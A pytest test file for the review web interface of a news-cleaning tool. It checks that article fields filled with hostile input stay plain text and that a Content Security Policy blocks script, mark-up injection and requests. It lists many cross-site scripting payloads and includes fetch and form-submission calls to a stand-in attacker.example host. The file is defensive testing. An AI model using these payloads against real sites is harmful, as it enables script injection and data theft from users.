"""What comes from articles stays text, whatever it is made of."""

import dataclasses

import pytest

from newsclean import Outlet, clean
from newsclean.article import Removal, Span
from newsclean.write.review import safe_json
from newsclean.write.review.entry import entry_of

ATTACKS = [
    "</script><script>window.pwned = 1</script>",
    "<!--<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "\"><svg onload=window.pwned=1>",
    "' onfocus='window.pwned=1' autofocus='",
    "javascript:window.pwned=1//",
    "${window.pwned=1}`;window.pwned=1//",
    "\u2028window.pwned=1\u2029",
    "]]><x/>{{constructor.constructor('window.pwned=1')()}}",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "</title></style><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "\x00\x08\x0b\x1b[31m\x7f",
    "\ud800 lone \udfff",
    "https://attacker.example/x.png",
]


def hostile(attack):
    """An article in which every field holds the attack."""
    plain = clean(f"{attack}\n\nThe council met on Tuesday and said nothing of note to anyone who was there.")
    evidence = tuple(e._replace(name=f"cue:{attack}", detail=attack) for e in plain.spans[0].evidence[:1]) or ()
    source = f"{attack}\n\n{attack}"
    spans = (Span(0, len(attack), "body", 0.6, evidence), Span(len(attack), len(attack) + 2, "separator", 1.0, ()), Span(len(attack) + 2, len(source), attack, 0.7, evidence))
    removed = (Removal(attack, len(attack) + 2, len(source), attack, evidence, 0.7, attack, 3),)
    return dataclasses.replace(
        plain, headline=attack, description=attack, authors=(attack,), dateline=attack, language=attack, section=attack, url=attack, id=attack, source=source, spans=spans, removed=removed,
        outlet=Outlet(attack, attack, attack, attack, attack), captions=(attack,), notes=(attack,), credits=(attack,), status=attack, page_type=attack, wire_service=attack,
    )  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_json_in_a_script_element(attack):
    data = safe_json({"text": attack})
    assert not {b"<", b">", b"&"} & {data[n : n + 1] for n in range(len(data))}
    assert b"\xe2\x80\xa8" not in data and b"\xe2\x80\xa9" not in data


def test_every_attack_in_every_field(show):
    shown = show([entry_of(hostile(attack)) for attack in ATTACKS])
    tab = shown.tab
    for number, attack in enumerate(ATTACKS):
        shown.press("]" if number else "j", "j", "j", "f", "f", "w", "Escape", "n", "c", "Escape", "a")
        assert tab.evaluate("[window.pwned, document.querySelectorAll('iframe, img, #source script, #source svg, #detail svg').length]") in ([None, 0], [0]), attack
        links = tab.locator("#fields a").all()
        assert [link.get_attribute("href") for link in links] == ([attack] if attack.startswith("https://") else [])
        assert all(link.get_attribute("rel") == "noopener noreferrer" for link in links)
        words = tab.locator("#source .text").first.text_content()
        if not any(ord(c) < 32 or ord(c) == 127 or "\u2028" <= c <= "\u2069" or "\ud800" <= c <= "\udfff" for c in attack):
            assert words == attack
    for name in ("outlet", "language", "status", "kind"):
        assert tab.locator(f"#f-{name} option").count() == len(ATTACKS) + 1
    tab.mouse.move(700, 300)
    fine, what = shown.quiet()
    assert fine, what
    assert tab.title() == "newsclean review"


def test_turned_text_is_shown_as_it_stands(show):
    shown = show([entry_of(hostile("\u202egnp.exe"))])
    assert shown.tab.locator("#source .control").first.inner_text() == "U+202E"
    assert "‹U+202E›gnp.exe" in shown.texts(".row b")
    for node in ("#title h2", "#source .text", ".row b", "#fields dd"):
        assert shown.tab.locator(node).first.evaluate("node => getComputedStyle(node).unicodeBidi") == "isolate"


def test_the_policy_holds(show):
    """Were text to become mark-up after all, the policy stops what it does: no inline script, no handler, no request,
    no string turned into mark-up or code."""
    shown = show([entry_of(hostile("x"))])
    tab = shown.tab
    tab.evaluate("""() => { const s = document.createElement("script"); try { s.textContent = "window.pwned = 1"; document.head.append(s); } catch {} }""")
    for act in ("document.body.innerHTML = '<b>x</b>'", "document.body.setAttribute('onclick', 'window.pwned = 1')", "document.body.insertAdjacentHTML('beforeend', '<i>')"):
        tab.evaluate("(act) => { try { new Function(act)(); } catch {} }", act)
    tab.evaluate("""() => { for (const [tag, at] of [["img", "src"], ["link", "href"], ["iframe", "src"], ["form", "action"]]) { const n = document.createElement(tag); if (tag === "link") n.rel = "stylesheet"; n[at] = "https://attacker.example/" + tag; document.body.append(n); if (tag === "form") n.submit(); } }""")
    assert tab.evaluate("fetch('https://attacker.example/').then(() => 'sent', () => 'stopped')") == "stopped"
    tab.wait_for_timeout(300)
    assert tab.evaluate("window.pwned") is None
    assert tab.locator("#bar").count() == 1
    sent = [url for url in shown.asked if "attacker" in url]
    refused = [text for text in shown.complaints if "Content Security Policy" in text or "TrustedHTML" in text or "violates" in text]
    assert refused and not [url for url in sent if url.endswith("form")], (sent, refused)
